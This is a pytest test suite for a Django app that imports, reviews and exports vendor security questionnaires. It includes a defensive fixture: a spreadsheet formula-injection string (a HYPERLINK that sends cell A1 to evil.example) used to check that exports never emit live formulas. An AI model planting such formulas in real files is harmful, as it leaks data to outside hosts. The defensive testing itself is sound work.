"""Importing questionnaires: real CSV and XLSX files, every error a person can meet,
progress while suggestions are found, review, export round trip and the command line."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.db.migrations.executor import MigrationExecutor
from django.test import TestCase
from msoffcrypto.format.ooxml import OOXMLFile

from trustcenter.questionnaires import importing
from trustcenter.questionnaires.exporting import plain_text, sheet_title, with_answer
from trustcenter.questionnaires.importing import ImportError_, read_questionnaire
from trustcenter.questionnaires.management.commands.answer_questionnaire import CLI_COLUMNS
from trustcenter.questionnaires.models import (
    Answer,
    AnswerStatus,
    Questionnaire,
    QuestionnaireRow,
    QuestionnaireStatus,
    RowKind,
    RowStatus,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def xlsx_bytes(sheets: dict[str, list[list]]) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for name, rows in sheets.items():
        sheet = workbook.create_sheet(name)
        for row in rows:
            sheet.append(row)
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"  # text that looks like a formula, as customers' sheets contain
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


VENDOR_SHEET = [
    ["Northwind Traders vendor security assessment"],
    ["Please answer every question."],
    [],
    ["Ref", "Question", "Vendor response", "Comments"],
    ["A", "Access control"],
    ["A.1", "Is multi-factor authentication enforced for all employees?"],
    ["A.2", "How often are user access reviews performed?"],
    [],
    ["B", "Encryption"],
    ["B.1", "Do you encrypt data at rest?"],
    ["B.2", "Which TLS versions are supported for data in transit?", None, FORMULA],
    ["B.3", "Describe how you rotate encryption keys", 42, "-5"],
]


def workbook_file():
    return xlsx_bytes(
        {
            "Instructions": [["How to fill in this questionnaire"], ["Answer in column C."]],
            "Security Questions": VENDOR_SHEET,
        }
    )


def upload(client, data: bytes, name: str):
    """Upload a file; its import job runs when the upload commits (at once, in tests)."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post("/staff/questionnaires/new/", {"file": _named(data, name)})


def _named(data, name):
    handle = io.BytesIO(data)
    handle.name = name
    return handle


def import_vendor_sheet(client):
    """Upload, accept the guesses, find every suggestion; returns the questionnaire."""
    response = upload(client, workbook_file(), "northwind.xlsx")
    assert response.status_code == 302, response.content.decode()[:500]
    questionnaire = Questionnaire.objects.latest("pk")
    with TestCase.captureOnCommitCallbacks(execute=True):  # the answering job runs once this commits
        response = client.post(
            f"/staff/questionnaires/{questionnaire.pk}/configure/",
            {
                "sheet": "Security Questions",
                "question_column": "1",
                "header_row": "4",
                "answer_column": "2",
                "action": "import",
            },
        )
    assert response.status_code == 302
    questionnaire.refresh_from_db()
    assert questionnaire.status == QuestionnaireStatus.READY
    return questionnaire


# --- Reading and guessing -------------------------------------------------------------


def test_the_sheet_column_and_title_row_are_guessed():
    workbook = read_questionnaire(workbook_file(), "northwind.xlsx")
    sheet = workbook.guessed_sheet()
    assert sheet.name == "Security Questions"
    assert sheet.header_row == 3 and sheet.question_column == 1
    assert sheet.column_names()[:3] == ["Ref", "Question", "Vendor response"]


def test_a_sheet_without_a_question_title_is_guessed_from_its_contents():
    rows = (
        [["ID", "Item", "Answer"]]
        if False
        else [["1", "Do you have a SOC 2 report?"], ["2", "Is data encrypted at rest?"]]
    )
    workbook = read_questionnaire(xlsx_bytes({"Sheet1": rows}), "plain.xlsx")
    assert workbook.sheets[0].question_column == 1


def test_csv_with_semicolons_in_windows_encoding():
    data = "Nr;Frage / Question;Antwort\n1;Do you encrypt data at rest? (Verschlüsselung)\n".encode("cp1252")
    sheet = read_questionnaire(data, "fragebogen.csv").sheets[0]
    assert sheet.question_column == 1 and sheet.header_row == 0
    assert sheet.rows[1][1] == "Do you encrypt data at rest? (Verschlüsselung)"


def test_rows_are_classified_and_kept_in_place():
    sheet = read_questionnaire(workbook_file(), "x.xlsx").guessed_sheet()
    kinds = [kind for kind, _text in importing.classify_rows(sheet, header_row=3, column=1)]
    assert kinds == [
        "other", "other", "blank", "header", "section", "question", "question",
        "blank", "section", "question", "question", "question",
    ]  # fmt: skip


# --- Errors a person can act on --------------------------------------------------------


def _encrypted_workbook() -> bytes:
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook_file())).encrypt("correct horse", out)
    return out.getvalue()


def _macro_workbook() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(workbook_file()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr("xl/vbaProject.bin", b"\x00VBA project")
    return out.getvalue()


def _docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return out.getvalue()


ERRORS = [
    ("empty", b"", "q.xlsx", "The file is empty"),
    ("pdf renamed", b"%PDF-1.7\n1 0 obj\n", "q.xlsx", "not a real Excel workbook"),
    ("pdf", b"%PDF-1.7\n1 0 obj\n", "q.pdf", "This is a PDF"),
    ("image renamed to csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "q.csv", "not a text CSV"),
    ("word document", _docx(), "q.xlsx", "This is a Word document"),
    ("encrypted", _encrypted_workbook(), "q.xlsx", "encrypted with a password"),
    ("legacy xls", importing.OLE_MAGIC + b"\x00" * 600, "q.xls", "old binary Office file"),
    ("macro by name", workbook_file(), "q.xlsm", "contains macros"),
    ("macro inside", _macro_workbook(), "q.xlsx", "contains macros"),
    ("damaged", b"PK\x03\x04" + b"\x00" * 100, "q.xlsx", "damaged"),
    ("text file", b"just some notes", "notes.txt", None),
    ("unknown type", b"binary\x00stuff", "q.numbers", "Upload the questionnaire as an Excel workbook"),
]


@pytest.mark.parametrize("label,data,name,message", ERRORS, ids=[e[0] for e in ERRORS])
def test_files_that_cannot_be_read_get_a_clear_error_and_nothing_is_kept(
    answer_library, client_for, sales, label, data, name, message
):
    response = upload(client_for(sales), data, name)
    html = response.content.decode()
    if message is None:  # a .txt of one line has no question column: it reaches the next step
        assert response.status_code in (302, 400)
        return
    assert response.status_code == 400, label
    assert message in html.replace("&#x27;", "'"), html[html.find("field-errors") : html.find("field-errors") + 400]
    assert Questionnaire.objects.count() == 0


def test_an_oversized_file_is_refused_by_the_form(answer_library, client_for, sales, settings):
    settings.QUESTIONNAIRE_MAX_UPLOAD_BYTES = 2000
    response = upload(client_for(sales), workbook_file(), "big.xlsx")
    assert response.status_code == 400
    assert "the limit is" in response.content.decode()
    assert Questionnaire.objects.count() == 0


def test_a_body_over_the_upload_path_limit_is_refused_before_it_is_read(answer_library, client_for, sales, settings):
    limit = settings.REQUEST_BODY_LIMITS["/staff/questionnaires/new/"]
    assert limit > settings.QUESTIONNAIRE_MAX_UPLOAD_BYTES
    client = client_for(sales)
    response = client.post(
        "/staff/questionnaires/new/", data=b"x" * (limit + 1), content_type="application/octet-stream"
    )
    assert response.status_code == 413


def test_a_zip_bomb_is_refused(settings):
    settings.QUESTIONNAIRE_MAX_UNPACKED_BYTES = 10_000
    with pytest.raises(ImportError_, match="unpacks to"):
        read_questionnaire(workbook_file(), "bomb.xlsx")


def test_an_empty_workbook_is_refused():
    with pytest.raises(ImportError_, match="no text"):
        read_questionnaire(xlsx_bytes({"Sheet1": []}), "empty.xlsx")
    with pytest.raises(ImportError_, match="no text"):
        read_questionnaire(b"\n\n;;\n", "empty.csv")


def test_more_than_2000_questions_are_refused_with_the_count(answer_library, client_for, sales):
    rows = [["Question"]] + [[f"Do you control number {n}?"] for n in range(2001)]
    client = client_for(sales)
    assert upload(client, xlsx_bytes({"Q": rows}), "huge.xlsx").status_code == 302
    questionnaire = Questionnaire.objects.get()
    response = client.post(
        f"/staff/questionnaires/{questionnaire.pk}/configure/",
        {"sheet": "Q", "question_column": "0", "header_row": "1", "action": "import"},
    )
    assert response.status_code == 200
    assert "2001 questions; at most 2000" in response.content.decode()
    assert QuestionnaireRow.objects.count() == 0


def test_a_column_without_questions_is_refused(answer_library, client_for, sales):
    client = client_for(sales)
    upload(client, workbook_file(), "n.xlsx")
    questionnaire = Questionnaire.objects.get()
    response = client.post(
        f"/staff/questionnaires/{questionnaire.pk}/configure/",
        {"sheet": "Security Questions", "question_column": "2", "header_row": "4", "action": "import"},
    )
    assert "No questions found in column" in response.content.decode().replace("&#x27;", "'")
    assert Questionnaire.objects.get().status == QuestionnaireStatus.CHOOSE


def test_the_configure_page_previews_the_chosen_sheet(answer_library, client_for, sales):
    client = client_for(sales)
    upload(client, workbook_file(), "n.xlsx")
    questionnaire = Questionnaire.objects.get()
    html = client.get(f"/staff/questionnaires/{questionnaire.pk}/configure/").content.decode()
    assert "Northwind Traders vendor security assessment" in html
    assert '<option value="1" selected>Question</option>' in html
    html = client.get(
        f"/staff/questionnaires/{questionnaire.pk}/configure/", {"sheet": "Instructions"}
    ).content.decode()
    assert "How to fill in this questionnaire" in html


# --- Workbooks whose sections are sheets ----------------------------------------------

APPLICATION_SHEET = [
    ["Question", "Answer", "Notes"],
    ["Is all traffic to the application encrypted with TLS?"],
    ["Are passwords stored with a salted hash?"],
    ["Is MFA available to customers?"],
]
INFRASTRUCTURE_SHEET = [
    ["ID", "Control question", "Response"],
    ["I.1", "If yes, how often are backups tested?"],  # follows nothing on this sheet
    ["I.2", "Do you encrypt data at rest?"],
    ["I.3", "Are production systems patched within a defined timeframe?"],
    ["I.4", "How long are logs retained?"],
]


def several_sheets():
    return xlsx_bytes(
        {
            "Cover": [["Vendor assessment"], ["Fill in both tabs."]],
            "Application": APPLICATION_SHEET,
            "Infrastructure": INFRASTRUCTURE_SHEET,
        }
    )


def import_several(client, **extra):
    upload(client, several_sheets(), "tabs.xlsx")
    questionnaire = Questionnaire.objects.latest("pk")
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(
            f"/staff/questionnaires/{questionnaire.pk}/configure/",
            {"sheet": "Application", "question_column": "0", "header_row": "1", "action": "import", **extra},
        )
    assert response.status_code == 302, response.content.decode()[:800]
    questionnaire.refresh_from_db()
    return questionnaire


def test_the_configure_page_offers_the_other_sheets_with_questions(answer_library, client_for, sales):
    client = client_for(sales)
    upload(client, several_sheets(), "tabs.xlsx")
    questionnaire = Questionnaire.objects.get()
    html = client.get(f"/staff/questionnaires/{questionnaire.pk}/configure/", {"sheet": "Application"}).content
    html = html.decode()
    # Offered, and ticked: a workbook whose sections are sheets is answered whole.
    checkbox = html.split('name="other_sheets"')[1].split(">")[0]
    assert 'id="id_other_sheets" checked' in checkbox and 'aria-describedby="id_other_sheets_helptext"' in checkbox
    assert 'id="id_other_sheets_helptext"' in html
    assert "Infrastructure, each with the column and title row guessed for it" in html
    assert "Cover," not in html  # two lines of instructions hold no questions
    # A single-sheet file is not offered it.
    upload(client, b"Question\nDo you encrypt data at rest?\n", "one.csv")
    single = Questionnaire.objects.latest("pk")
    assert 'name="other_sheets"' not in client.get(f"/staff/questionnaires/{single.pk}/configure/").content.decode()


def test_every_sheet_with_questions_is_answered_with_its_name_as_the_outer_heading(answer_library, client_for, sales):
    questionnaire = import_several(client_for(sales), other_sheets="on")
    assert questionnaire.status == QuestionnaireStatus.READY
    assert questionnaire.sheet_names == ["Application", "Infrastructure"]
    assert questionnaire.sheets[1]["question_column"] == 1 and questionnaire.sheets[1]["header_row"] == 0
    questions = list(questionnaire.rows.filter(kind=RowKind.QUESTION).order_by("position"))
    assert questionnaire.question_count == len(questions) == 7
    assert [q.sheet for q in questions] == [0, 0, 0, 1, 1, 1, 1]
    assert questions[0].context["section"] == "Application"
    assert questions[4].context["section"] == "Infrastructure"
    # The first question of a sheet follows nothing on the sheet before it.
    assert "previous" not in questions[3].context or not questions[3].context["previous"]
    at_rest = _question(questionnaire, "Do you encrypt data at rest")
    assert not at_rest.needs_expert and "encrypted with AES-256" in at_rest.suggestions[0]["detail"]


def test_only_the_chosen_sheet_is_answered_when_asked(answer_library, client_for, sales):
    questionnaire = import_several(client_for(sales))
    assert questionnaire.sheet_names == ["Application"] and questionnaire.question_count == 3
    assert questionnaire.rows.filter(sheet=1).count() == 0
    # Its questions stand alone: no sheet name is added as a heading.
    assert _question(questionnaire, "Is MFA available").context.get("section", "") == ""


def test_the_answered_file_keeps_every_sheet_row_and_column(answer_library, client_for, sales):
    client = client_for(sales)
    questionnaire = import_several(client, other_sheets="on", answer_column="1")
    url = f"/staff/questionnaires/{questionnaire.pk}"
    client.post(f"{url}/rows/{_question(questionnaire, 'Do you encrypt data at rest').pk}/", {"action": "accept"})
    client.post(f"{url}/rows/{_question(questionnaire, 'Is MFA available').pk}/", {"action": "edit", "answer": "=Yes"})
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(f"{url}/export.xlsx").content))
    assert workbook.sheetnames == ["Application", "Infrastructure"]
    for name, original in (("Application", APPLICATION_SHEET), ("Infrastructure", INFRASTRUCTURE_SHEET)):
        rows = [[c.value for c in row] for row in workbook[name].iter_rows()]
        width = len(original[0])
        assert len(rows) == len(original)
        for before, after in zip(original, rows, strict=True):
            assert after[: len(before)] == before
        assert rows[0][width:] == ["Answer", "Detail", "Source URL", "Policy version", "Reviewed by"]
    # Reviewed answers also go into each sheet's own answer column: the one chosen for the
    # first sheet ("Answer"), the one titled for it on the other ("Response").
    application, infrastructure = workbook["Application"], workbook["Infrastructure"]
    assert application["B4"].value == application["D4"].value == "=Yes" and application["B4"].data_type == "s"
    assert application["C4"].value is None  # an edit without detail leaves Notes empty
    assert infrastructure["C3"].value == infrastructure["D3"].value and infrastructure["C3"].value.startswith("Yes")
    assert [c.value for c in infrastructure[2]][2:4] == [None, None]  # rows not reviewed stay empty
    # CSV has one table: a first column names the sheet of every row.
    rows = list(csv.reader(io.StringIO(client.get(f"{url}/export.csv").content.decode("utf-8-sig"))))
    assert rows[0][0] == "Sheet" and len(rows) == 1 + len(APPLICATION_SHEET) + len(INFRASTRUCTURE_SHEET)
    assert [r[0] for r in rows[1:]] == ["Application"] * 4 + ["Infrastructure"] * 5
    assert rows[4][1:3] == ["Is MFA available to customers?", "'=Yes"] and rows[4][4] == "'=Yes"


def test_more_questions_in_all_sheets_than_the_limit_are_refused(answer_library, client_for, sales, settings):
    settings.QUESTIONNAIRE_MAX_QUESTIONS = 5
    client = client_for(sales)
    upload(client, several_sheets(), "tabs.xlsx")
    questionnaire = Questionnaire.objects.get()
    response = client.post(
        f"/staff/questionnaires/{questionnaire.pk}/configure/",
        {"sheet": "Application", "question_column": "0", "header_row": "1", "action": "import", "other_sheets": "on"},
    )
    assert "The sheets have 7 questions; at most 5 can be imported at once" in response.content.decode()
    questionnaire.refresh_from_db()
    assert questionnaire.status == QuestionnaireStatus.CHOOSE and not questionnaire.rows.exists()


@pytest.mark.parametrize(
    ("names", "titles"),
    [
        (["Questions", "questions"], ["Questions", "questions 2"]),
        (["A/B: [draft]?", ""], ["A B   draft", "Questionnaire"]),
        (["x" * 40, "x" * 40], ["x" * 31, "x" * 29 + " 2"]),
    ],
)
def test_exported_sheet_titles_are_ones_excel_accepts_and_unique(names, titles):
    taken: set[str] = set()
    assert [sheet_title(name, taken) for name in names] == titles


# --- The sheet's own answer columns -----------------------------------------------------


@pytest.mark.parametrize(
    ("titles", "answer", "comment", "choices"),
    [
        (["Ref", "Question", "Vendor response", "Comments"], 2, 3, {}),
        (["Question", "Supplier's Answer", "Additional information"], 1, 2, {}),
        (["Control question", "Answer options", "Response (Yes/No)", "Notes"], 2, 3, {}),
        (["Question", "Yes", "No", "N/A", "Explanation"], None, 4, {"1": "Yes", "2": "No", "3": "N/A"}),
        (["Question", "Owner", "Due date"], None, None, {}),
    ],
)
def test_the_sheets_own_columns_for_the_answer_are_found_by_their_titles(titles, answer, comment, choices):
    sheet = importing.Sheet(name="Q", rows=[titles, ["Do you encrypt data at rest?"]])
    found = importing.answer_columns(
        sheet, header_row=0, column=titles.index(next(t for t in titles if "uestion" in t))
    )
    assert found == {"answer_column": answer, "comment_column": comment, "choice_columns": choices}


def test_an_answer_is_written_into_empty_cells_only_and_marks_its_choice_column():
    columns = {"answer_column": 1, "comment_column": 2, "choice_columns": {}}
    assert with_answer(["Q?"], columns, answer="Yes", detail="We do.") == ["Q?", "Yes", "We do."]
    assert with_answer(["Q?", "No", None], columns, answer="Yes", detail="We do.") == ["Q?", "No", "We do."]
    assert with_answer(["Q?", None, None], columns, answer="Yes", detail="") == ["Q?", "Yes", None]
    choices = {"answer_column": None, "comment_column": 4, "choice_columns": {"1": "Yes", "2": "No", "3": "N/A"}}
    assert with_answer(["Q?"], choices, answer="Yes, AES-256", detail="d") == ["Q?", "X", None, None, "d"]
    assert with_answer(["Q?"], choices, answer="Not applicable", detail="")[3] == "X"
    assert with_answer(["Q?", None, "x"], choices, answer="Yes", detail="")[1] is None  # already marked
    assert with_answer(["Q?"], choices, answer="Quarterly", detail="") == ["Q?"]  # no choice it names


def test_the_configure_page_preselects_the_column_titled_for_the_answers(answer_library, client_for, sales):
    client = client_for(sales)
    upload(client, workbook_file(), "n.xlsx")
    questionnaire = Questionnaire.objects.get()
    html = client.get(f"/staff/questionnaires/{questionnaire.pk}/configure/").content.decode()
    answer_select = html.split('name="answer_column"')[1].split("</select>")[0]
    assert '<option value="2" selected>Vendor response</option>' in answer_select
    response = client.post(
        f"/staff/questionnaires/{questionnaire.pk}/configure/",
        {"sheet": "Security Questions", "question_column": "1", "header_row": "4", "answer_column": "1"},
    )
    assert "Choose a column for the answers other than the questions" in response.content.decode()
    assert not questionnaire.rows.exists()


# --- Progress ------------------------------------------------------------------------------


def test_suggestions_are_found_by_a_job_while_the_page_shows_progress(answer_library, client_for, sales):
    client = client_for(sales)
    upload(client, workbook_file(), "n.xlsx")
    questionnaire = Questionnaire.objects.get()
    progress = f"/staff/questionnaires/{questionnaire.pk}/progress/"
    with TestCase.captureOnCommitCallbacks(execute=False) as jobs:
        response = client.post(
            f"/staff/questionnaires/{questionnaire.pk}/configure/",
            {"sheet": "Security Questions", "question_column": "1", "header_row": "4", "action": "import"},
        )
    assert response["Location"] == progress
    html = client.get(progress).content.decode()
    # The page refreshes itself (no script: the CSP forbids inline ones) until the job is done.
    assert "0 of 5 questions" in html and '<meta http-equiv="refresh" content="2">' in html and "<script" not in html
    for job in jobs:  # the worker picks the answering job up
        job()
    questionnaire.refresh_from_db()
    assert questionnaire.status == QuestionnaireStatus.READY and questionnaire.processed_count == 5
    # Once done the progress page sends people to the review.
    assert client.get(progress)["Location"].endswith("/review/")


# --- Review ----------------------------------------------------------------------------


def _question(questionnaire, text):
    return questionnaire.rows.get(kind=RowKind.QUESTION, question__startswith=text)


def test_review_accept_choose_edit_and_not_applicable_with_a_progress_count(answer_library, client_for, sales):
    client = client_for(sales)
    questionnaire = import_vendor_sheet(client)
    url = f"/staff/questionnaires/{questionnaire.pk}"
    html = client.get(f"{url}/review/").content.decode()
    assert "0 of 5 questions reviewed" in html and "Encryption" in html

    mfa = _question(questionnaire, "Is multi-factor")
    assert mfa.suggestions[0]["source"]["url"].endswith("/policies/access-control/#multi-factor-authentication")
    client.post(f"{url}/rows/{mfa.pk}/", {"action": "accept", "choice": "0"})
    mfa.refresh_from_db()
    assert mfa.status == RowStatus.ACCEPTED and mfa.answer == "Yes" and mfa.reviewed_by == sales
    assert mfa.policy_version == "Identity and Access Management v2 § Multi-factor authentication"

    reviews = _question(questionnaire, "How often")
    client.post(f"{url}/rows/{reviews.pk}/", {"action": "accept", "choice": "1"})
    reviews.refresh_from_db()
    assert reviews.source_key == reviews.suggestions[1]["key"]

    tls = _question(questionnaire, "Which TLS")
    client.post(
        f"{url}/rows/{tls.pk}/", {"action": "edit", "choice": "0", "answer": "TLS 1.2 and 1.3", "detail": "Only."}
    )
    tls.refresh_from_db()
    assert (tls.status, tls.answer, tls.detail) == (RowStatus.EDITED, "TLS 1.2 and 1.3", "Only.")
    assert tls.source_url.startswith("http")

    keys = _question(questionnaire, "Describe how")
    client.post(f"{url}/rows/{keys.pk}/", {"action": "na"})
    keys.refresh_from_db()
    assert keys.status == RowStatus.NA and keys.answer == "N/A"

    html = client.get(f"{url}/review/").content.decode()
    assert "4 of 5 questions reviewed" in html
    assert "Do you encrypt data at rest?" in client.get(f"{url}/review/", {"show": "todo"}).content.decode()
    assert "Is multi-factor" not in client.get(f"{url}/review/", {"show": "todo"}).content.decode()

    client.post(f"{url}/rows/{keys.pk}/", {"action": "reset"})
    assert "3 of 5 questions reviewed" in client.get(f"{url}/review/").content.decode()


def test_an_edit_without_an_answer_is_refused(answer_library, client_for, sales):
    client = client_for(sales)
    questionnaire = import_vendor_sheet(client)
    row = _question(questionnaire, "Do you encrypt")
    response = client.post(f"/staff/questionnaires/{questionnaire.pk}/rows/{row.pk}/", {"action": "edit"}, follow=True)
    assert "Write an answer" in response.content.decode()
    row.refresh_from_db()
    assert row.status == RowStatus.PENDING


def test_sales_save_an_edited_answer_to_the_library_as_a_draft(answer_library, client_for, sales):
    client = client_for(sales)
    questionnaire = import_vendor_sheet(client)
    row = _question(questionnaire, "Which TLS")
    before = Answer.objects.count()
    client.post(
        f"/staff/questionnaires/{questionnaire.pk}/rows/{row.pk}/",
        {
            "action": "edit",
            "choice": "0",
            "answer": "TLS 1.2+",
            "detail": "TLS 1.3 preferred.",
            "save_to_library": "on",
        },
    )
    assert Answer.objects.count() == before + 1
    draft = Answer.objects.latest("pk")
    assert draft.status == AnswerStatus.DRAFT and draft.question == row.question and draft.short_answer == "TLS 1.2+"
    assert draft.citations.exists()


def test_a_security_admin_saves_an_edit_back_into_the_library_answer(answer_library, client_for, security_admin):
    client = client_for(security_admin)
    questionnaire = import_vendor_sheet(client)
    row = _question(questionnaire, "Do you encrypt")
    assert row.suggestions[0]["kind"] == "answer"
    answer_pk = row.suggestions[0]["answer_pk"]
    client.post(
        f"/staff/questionnaires/{questionnaire.pk}/rows/{row.pk}/",
        {"action": "edit", "choice": "0", "answer": "Yes (AES-256)", "detail": "Always.", "save_to_library": "on"},
    )
    answer = Answer.objects.get(pk=answer_pk)
    assert answer.short_answer == "Yes (AES-256)" and answer.is_approved and answer.reviewed_by == security_admin


# --- Export ----------------------------------------------------------------------------


def _review_some(client, questionnaire):
    url = f"/staff/questionnaires/{questionnaire.pk}"
    client.post(f"{url}/rows/{_question(questionnaire, 'Is multi-factor').pk}/", {"action": "accept"})
    client.post(
        f"{url}/rows/{_question(questionnaire, 'Which TLS').pk}/",
        {"action": "edit", "answer": "=1+1", "detail": "@SUM(A1:A2)"},
    )
    client.post(f"{url}/rows/{_question(questionnaire, 'Describe how').pk}/", {"action": "na"})


def test_xlsx_export_round_trip_keeps_every_row_and_adds_the_answer_columns(answer_library, client_for, sales):
    client = client_for(sales)
    questionnaire = import_vendor_sheet(client)
    _review_some(client, questionnaire)
    response = client.get(f"/staff/questionnaires/{questionnaire.pk}/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="northwind-answered.xlsx"'
    assert "no-store" in response["Cache-Control"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert len(rows) == len(VENDOR_SHEET)
    width = 4
    reviewed = {5, 10, 11}
    for number, (original, exported) in enumerate(zip(VENDOR_SHEET, rows, strict=True)):
        if number in reviewed:
            # The answer goes into the sheet's own empty cells too; what the sheet holds stays.
            assert [v for v in original if v is not None] == [v for v in exported[: len(original)] if v in original]
        else:
            assert exported[: len(original)] == original
            assert all(v is None for v in exported[len(original) : width])
    assert rows[3][width:] == ["Answer", "Detail", "Source URL", "Policy version", "Reviewed by"]
    assert rows[5][width] == "Yes" and rows[5][width + 4] == "Sam Sales"
    assert rows[5][2] == "Yes" and rows[5][3] == rows[5][width + 1] and "FIDO2" in rows[5][3]
    assert rows[10][2:4] == ["=1+1", FORMULA]  # Comments held text: not overwritten
    assert rows[11][2:4] == [42, "-5"]  # the sheet's own answer kept; N/A only at the end
    assert rows[5][width + 2] == "http://127.0.0.1:8000/policies/access-control/#multi-factor-authentication"
    assert rows[5][width + 3] == "Identity and Access Management v2 § Multi-factor authentication"
    assert rows[6][width:] == [None] * 5  # not reviewed: nothing exported
    assert rows[7] == [None] * 9 and rows[8][:2] == ["B", "Encryption"]  # blank row and section header kept
    assert rows[10][width : width + 2] == ["=1+1", "@SUM(A1:A2)"]
    assert rows[11][width] == "N/A"


def test_no_exported_xlsx_cell_is_a_formula(answer_library, client_for, sales):
    client = client_for(sales)
    questionnaire = import_vendor_sheet(client)
    _review_some(client, questionnaire)
    data = client.get(f"/staff/questionnaires/{questionnaire.pk}/export.xlsx").content
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert any(c.value == FORMULA for c in cells)
    assert all(c.data_type != "f" for c in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 'quotePrefix="1"' in styles  # formula-looking text stays text even when edited


def test_csv_export_round_trip_and_no_cell_reads_as_a_formula(answer_library, client_for, sales):
    client = client_for(sales)
    questionnaire = import_vendor_sheet(client)
    _review_some(client, questionnaire)
    response = client.get(f"/staff/questionnaires/{questionnaire.pk}/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(VENDOR_SHEET)
    assert rows[3] == [
        "Ref",
        "Question",
        "Vendor response",
        "Comments",
        "Answer",
        "Detail",
        "Source URL",
        "Policy version",
        "Reviewed by",
    ]
    assert rows[10][3] == "'" + FORMULA and rows[10][4] == "'=1+1" and rows[10][5] == "'@SUM(A1:A2)"
    assert rows[11][2:4] == ["42", "-5"]  # plain numbers stay numbers
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), value


def test_unknown_export_formats_are_not_found(answer_library, client_for, sales):
    client = client_for(sales)
    questionnaire = import_vendor_sheet(client)
    assert client.get(f"/staff/questionnaires/{questionnaire.pk}/export.pdf").status_code == 404


# --- Command line --------------------------------------------------------------------


def test_the_command_fills_a_workbook_without_a_browser(answer_library, tmp_path, capsys):
    source = tmp_path / "in.xlsx"
    source.write_bytes(workbook_file())
    out = tmp_path / "out.xlsx"
    call_command("answer_questionnaire", str(source), "--out", str(out))
    assert "5 questions from sheet 'Security Questions', column 'Question'" in capsys.readouterr().out
    rows = [[c.value for c in r] for r in openpyxl.load_workbook(out).active.iter_rows()]
    assert rows[3][4:] == CLI_COLUMNS == [
        "Answer", "Detail", "Confidence", "Source URL", "Policy version", "Needs an expert"
    ]  # fmt: skip
    encrypt = rows[9]
    assert encrypt[1] == "Do you encrypt data at rest?"
    assert encrypt[4] == "Yes, AES-256" and encrypt[6] >= 50 and encrypt[7].endswith("#encryption-at-rest")
    assert encrypt[9] == "no"
    assert rows[7] == [None] * 10


def test_the_command_takes_a_column_by_title_or_letter_and_writes_csv(answer_library, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("Notes,Ask\nx,Do you run a bug bounty?\ny,What colour is the CEO's car?\n")
    out = tmp_path / "out.csv"
    call_command("answer_questionnaire", str(source), "--out", str(out), "--column", "B")
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))
    assert rows[1][2] == "Yes" and rows[1][-1] == "no"
    assert rows[2][2] == "" and rows[2][-1] == "yes: No policy section covers it"
    call_command("answer_questionnaire", str(source), "--out", str(out), "--column", "ask")
    with pytest.raises(CommandError, match="No column 'Answers'"):
        call_command("answer_questionnaire", str(source), "--out", str(out), "--column", "Answers")


def test_the_command_answers_as_the_upload_page_suggests(answer_library, tmp_path, client_for, sales):
    # Questions are read with their section, the question above and the sheet's options, and
    # the short answer and detail are the ones made for the question, as on the review page.
    sheet = (
        "Question\nHow often are penetration tests performed?\nLogging\nAre security logs kept?\n"
        "How long are they kept?\nDo you have a written information security policy?\n"
        "The name of the application\n"
    )
    source = tmp_path / "in.csv"
    source.write_text(sheet)
    out = tmp_path / "out.csv"
    call_command("answer_questionnaire", str(source), "--out", str(out))
    rows = {row[0]: row for row in csv.reader(io.StringIO(out.read_text("utf-8-sig")))}
    assert "3 years" in rows["How long are they kept?"][1], rows["How long are they kept?"]
    assert rows["The name of the application"][-1] == "yes: It asks about your product or the sheet itself"

    client = client_for(sales)
    upload(client, sheet.encode(), "in.csv")
    questionnaire = Questionnaire.objects.latest("pk")
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.post(
            f"/staff/questionnaires/{questionnaire.pk}/configure/",
            {"sheet": questionnaire.sheet_name, "question_column": "0", "header_row": "1", "action": "import"},
        )
    answered = 0
    for row in questionnaire.rows.filter(kind=RowKind.QUESTION):
        top = row.suggestions[0] if row.suggestions else {}
        command = rows[row.question]
        assert command[3] == str(top.get("confidence", 0)), (row.question, command)
        if not row.needs_expert:
            answered += 1
            assert command[1] == top["short_answer"] and command[2] == plain_text(top["detail"]), command
    assert answered >= 3


def test_the_command_answers_every_sheet_with_questions_unless_given_one(answer_library, tmp_path, capsys):
    source = tmp_path / "tabs.xlsx"
    source.write_bytes(several_sheets())
    out = tmp_path / "out.xlsx"
    call_command("answer_questionnaire", str(source), "--out", str(out))
    assert "(and 1 more: " in capsys.readouterr().out
    workbook = openpyxl.load_workbook(out)
    assert workbook.sheetnames == ["Application", "Infrastructure"]  # the cover sheet holds no questions
